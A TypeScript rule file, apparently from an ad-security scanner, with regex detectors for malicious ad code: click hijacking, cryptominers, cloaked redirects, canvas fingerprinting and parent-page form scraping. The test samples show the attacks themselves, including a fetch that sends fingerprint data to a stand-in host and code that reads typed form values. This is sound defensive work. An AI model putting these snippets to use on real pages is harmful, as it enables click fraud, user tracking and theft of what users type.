import type { Rule } from './rule.ts'

/** An address that is set, and was hidden by an encoding. */
const hiddenAddress =
  '(?:\\.href|location) ?= ?[\\w.]{0,40}(?:atob|escape|decodeURI(?:Component)?|fromCharCode|eval) ?\\('

/** Code whose purpose can be read. */
export const codeRules: Rule[] = [
  {
    id: 'cursor-follow',
    threatClass: 'click-hijack',
    variant: 'cursor-follow',
    explanation: 'An invisible element that is kept under the pointer takes the next click, whatever it was meant for.',
    place: 'markup',
    effect: 'block',
    pattern:
      /(?:mousemove|pointermove).{0,300}\.style\.(?:left|top|transform) ?=.{0,60}(?:clientX|clientY|pageX|pageY)/,
    also: [
      /opacity["']? ?[:=] ?["']?(?:0?\.0\d{0,9}|0)(?![.\d])/,
      /<a\b|createElement\( ?["'](?:a|iframe)["']|<iframe/,
    ],
    matches: [
      '<a id=f style="opacity:0;position:fixed" href="//a.example"></a><script>onmousemove=e=>{f.style.left=e.clientX+"px"}</script>',
    ],
    sparing: [
      "box.addEventListener('mousemove', e => { shoe.style.left = e.clientX / 20 + 'px' })",
      '<a href="https://shop.example" style="opacity:0.9">Shop</a>',
    ],
  },
  {
    id: 'wasm-miner',
    threatClass: 'cryptomining',
    variant: 'wasm-miner',
    explanation: 'The names that clients of mining services use, or the protocol of the pools.',
    place: 'markup',
    effect: 'block',
    pattern: [
      /\b(?:CoinHive|CryptoLoot|deepMiner|CoinImp|WMP) ?\. ?(?:Anonymous|User)\b|stratum\+(?:tcp|ssl):\/\//,
      /\b(?:cryptonight|randomx)\b.{0,300}\b(?:wasm|worker|hash)/,
    ],
    matches: [
      "new CoinHive.Anonymous('KEY').start()",
      "pool = 'stratum+tcp://pool.example:3333'",
      'load("cryptonight.wasm", worker)',
    ],
    sparing: ['Coinhive is history: read the story', '<p>Randomx Sale Days</p>'],
  },
  {
    id: 'fingerprint-cloak',
    threatClass: 'cloaked-landing-page',
    variant: 'fingerprint-cloak',
    explanation: 'Looks for the marks of a reviewer’s browser, and leads others elsewhere.',
    place: 'markup',
    effect: 'block',
    pattern:
      /(?:navigator\.webdriver|HeadlessChrome|callPhantom|_phantom\b).{0,300}(?:\.href|location|\.action) ?=[^=]/,
    matches: [
      "if (!navigator.webdriver) { link.href = 'https://other.example' }",
      '/HeadlessChrome/.test(ua) || (a.href = b)',
    ],
    sparing: ['beacon.wd = navigator.webdriver ? 1 : 0', "if (/Headless/.test(band)) document.title = 'Gig'"],
  },
  {
    id: 'referrer-cloak',
    threatClass: 'cloaked-landing-page',
    variant: 'referrer-cloak',
    explanation: 'An address that is hidden, and set only for readers who come from the right place.',
    place: 'markup',
    effect: 'block',
    pattern: new RegExp(`if ?\\([^{};]{0,300}document\\.referrer[^{};]{0,300}\\)[^}]{0,300}${hiddenAddress}`),
    matches: ["if (document.referrer.indexOf('news') > 0) { a.href = atob('aHR0cHM6Ly9hLmV4YW1wbGU=') }"],
    sparing: [
      "pixel.src = 'https://m.example/?r=' + encodeURIComponent(document.referrer)",
      'if (document.referrer) a.href = shop',
    ],
  },
  {
    id: 'geo-cloak',
    threatClass: 'cloaked-landing-page',
    variant: 'geo-cloak',
    explanation: 'An address that is hidden, and set only for readers in the right time zone.',
    place: 'markup',
    effect: 'block',
    pattern: new RegExp(
      `if ?\\([^{};]{0,300}(?:timeZone\\b|getTimezoneOffset ?\\()[^{};]{0,300}\\)[^}]{0,300}${hiddenAddress}`,
    ),
    matches: [
      "if (Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith('America')) a.href = atob('aHR0cHM6Ly9h')",
    ],
    sparing: [
      "if (new Date().getTimezoneOffset() === -60) a.href = 'https://shop.example/de'",
      'zone = resolved.timeZone; a.href = atob(x)',
    ],
  },
  {
    id: 'canvas-fingerprint',
    threatClass: 'data-theft',
    variant: 'canvas-fingerprint',
    explanation: 'Draws in order to read the pixels back, takes other marks of the device, and sends all of it away.',
    place: 'markup',
    effect: 'block',
    pattern: /fillText ?\(.{0,800}\.(?:toDataURL|getImageData) ?\(/,
    also: [
      /navigator\.plugins|hardwareConcurrency|deviceMemory|AudioContext|enumerateDevices/,
      /sendBeacon|XMLHttpRequest|fetch ?\(|new Image|\.src ?=/,
    ],
    matches: [
      "c.fillText('abc',1,1); d = canvas.toDataURL(); p = navigator.plugins.length; fetch('//t.example/?' + d + p)",
    ],
    sparing: [
      "c.fillText('Sale', 10, 10); poster.src = canvas.toDataURL()",
      "fetch('/stats?cores=' + navigator.hardwareConcurrency)",
    ],
  },
  {
    id: 'form-scrape',
    threatClass: 'data-theft',
    variant: 'form-scrape',
    explanation: 'Reads what the reader typed into fields of the page around the ad.',
    place: 'markup',
    effect: 'block',
    pattern: [
      /\b(?:top|parent) ?\. ?(?:window ?\. ?)?document ?\. ?querySelector(?:All)? ?\( ?["'][^"']{0,60}(?:input|form|password).{0,300}\.value\b/,
      /\b(?:top|parent) ?\. ?(?:window ?\. ?)?document ?\. ?(?:forms\b|getElementsByTagName ?\( ?["']input).{0,300}\.value\b/,
    ],
    matches: [
      "parent.document.querySelectorAll('input').forEach(f => data.push(f.value))",
      'v = top.document.forms[0].email.value',
    ],
    sparing: ["parent.document.querySelector('#slot').style.height = '250px'", "document.querySelector('input').value"],
  },
]
